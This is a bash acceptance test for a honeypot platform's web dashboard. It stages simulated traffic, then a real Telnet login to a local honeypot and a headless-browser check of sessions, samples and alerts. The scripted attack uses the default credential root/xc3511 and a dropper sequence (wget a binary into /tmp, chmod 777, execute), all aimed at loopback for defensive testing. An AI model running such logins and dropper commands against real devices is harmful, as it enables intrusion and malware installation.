#!/usr/bin/env bash
# The dashboard in headless Chromium against `mitsu run` (issue 16's browser acceptance): a week
# of `mitsu simulate` traffic, then a real Telnet attack by Debian's telnet that logs in and
# fetches a sample (a small ARM program imitating a bot against documentation addresses) from a
# loopback web server; the platform analyses it in the sandbox. web/dashboard/tests/dashboard.mjs
# then logs in, checks the overview, watches a second real attack arrive live, replays the first
# session, opens the sample with its sandbox report and acknowledges an alert, taking
# screenshots at 1280x720 and 390x844 (kept in MITSU_SCREENSHOTS, default the build dir).
# ctest runs it in network and PID namespaces of its own (only loopback), as a second wall for the
# sandbox; when the script ends the PID namespace ends, so no browser helper outlives it (its own
# /proc, which LeakSanitizer reads). Usage: dashboard_browser_test.sh MITSU_BINARY WEB_DIR SAMPLE_ELF
set -euo pipefail
mitsu=$1
web=$2
sample=$3
shots=${MITSU_SCREENSHOTS:-$PWD/dashboard-screenshots}
work=$(mktemp -d)
pids=()
cleanup() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

[ -x /usr/bin/chromium ] || { echo "chromium is missing (scripts/install-deps.sh)"; exit 1; }
[ -x /usr/bin/telnet ] || { echo "telnet is missing (scripts/install-deps.sh)"; exit 1; }
[ -d "$web/node_modules/playwright-core" ] || { echo "playwright-core is missing (scripts/install-web.sh)"; exit 1; }
[ -f "$web/dashboard/dist/index.html" ] || { echo "the dashboard is not built (scripts/install-web.sh)"; exit 1; }
[ -f "$sample" ] || { echo "the sample fixture $sample is missing"; exit 1; }

free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
telnet_port=$(free_port)
http_port=$(free_port)
password='dashboard test password'

mkdir -p "$work/www" "$shots"
cp "$sample" "$work/www/bot.arm"
python3 -m http.server "$http_port" --bind 127.0.0.1 --directory "$work/www" >/dev/null 2>&1 &
pids+=($!)

cat >"$work/mitsu.toml" <<EOF
[sensor]
id = "dash-sensor"
[[sensor.listeners]]
persona = "ip-camera"
port = $telnet_port
[download]
allow = ["127.0.0.1/32"]
[api]
port = 0
dashboard = "$web/dashboard/dist"
[sandbox]
time_limit_seconds = 5
EOF
m() { "$mitsu" --config "$work/mitsu.toml" --data-dir "$work/data" --log-level warn "$@"; }

m simulate --from "$(date -u -d '-8 days' +%F)" --days 7 --sessions-per-day 300 >/dev/null
printf '%s\n' "$password" | m user add analyst --role admin >/dev/null

# Started directly, not through m(), so that $! is mitsu itself and the cleanup's TERM reaches it
# (it then stops its workers); a function would run in a subshell that dies alone.
"$mitsu" --config "$work/mitsu.toml" --data-dir "$work/data" --log-level warn run \
  >"$work/run.out" 2>"$work/run.err" &
pids+=($!)
for _ in $(seq 100); do grep -q '^api https://' "$work/run.out" && break; sleep 0.2; done
url=$(sed -n 's|^api \(https://[^/]*\)/api/v1$|\1|p' "$work/run.out")
[ -n "$url" ] || { echo "mitsu run did not start"; cat "$work/run.err"; exit 1; }
token=$(m token create --user analyst --label browser-test | head -1)
api() { curl -sS --fail-with-body --cacert "$work/data/api-tls/cert.pem" --resolve "localhost:${url##*:}:127.0.0.1" \
  -H "Authorization: Bearer $token" "https://localhost:${url##*:}$1"; }

# Telnet reads the keyboard from stdin; the pauses let each prompt arrive first.
attack() {  # attack COMMAND...
  { sleep 1; printf 'root\n'; sleep 0.5; printf 'xc3511\n'; sleep 0.5
    for c in "$@"; do printf '%s\n' "$c"; sleep 0.7; done
    printf 'exit\n'; sleep 0.5; } | timeout 60 telnet 127.0.0.1 "$telnet_port" >>"$work/telnet.log" 2>&1 || true
}
for _ in $(seq 50); do (echo >"/dev/tcp/127.0.0.1/$telnet_port") 2>/dev/null && break; sleep 0.2; done
attack "cd /tmp" "wget http://127.0.0.1:$http_port/bot.arm -O .b" "chmod 777 .b" "./.b"
sha=$(sha256sum "$sample" | cut -d' ' -f1)

# The sample is analysed (static, then the sandbox) while we wait; its session is the one
# the browser replays.
for _ in $(seq 150); do
  api "/api/v1/samples/$sha" 2>/dev/null | python3 -c 'import json,sys; v=json.load(sys.stdin)["verdict"]; sys.exit(0 if v and "sandbox" in v else 1)' && break
  sleep 1
done
api "/api/v1/samples/$sha" | python3 -c 'import json,sys; v=json.load(sys.stdin)["verdict"]; assert v and "sandbox" in v, "no sandbox report"; print("sandbox behaviours:", [b["tag"] for b in v["sandbox"]["behaviours"]])'
session=$(api "/api/v1/events?sha256=$sha&limit=1" | python3 -c 'import json,sys; print(json.load(sys.stdin)["events"][0]["mitsu"]["session"]["id"])')

# The second attack, started by the browser script once its live stream is open.
cat >"$work/attack2.sh" <<EOF
{ sleep 1; printf 'root\n'; sleep 0.5; printf 'xc3511\n'; sleep 0.5; printf 'uname -a\n'; sleep 0.7
  printf 'exit\n'; sleep 0.5; } | timeout 60 telnet 127.0.0.1 $telnet_port >>"$work/telnet.log" 2>&1 || true
EOF
node "$web/dashboard/tests/dashboard.mjs" --url "$url" --ca "$work/data/api-tls/cert.pem" \
  --user analyst --password "$password" --screenshots "$shots" \
  --session "$session" --command "chmod 777 .b" --sample "$sha" \
  --live-command "uname -a" --trigger "bash $work/attack2.sh"
echo "dashboard: every check passed; screenshots in $shots"
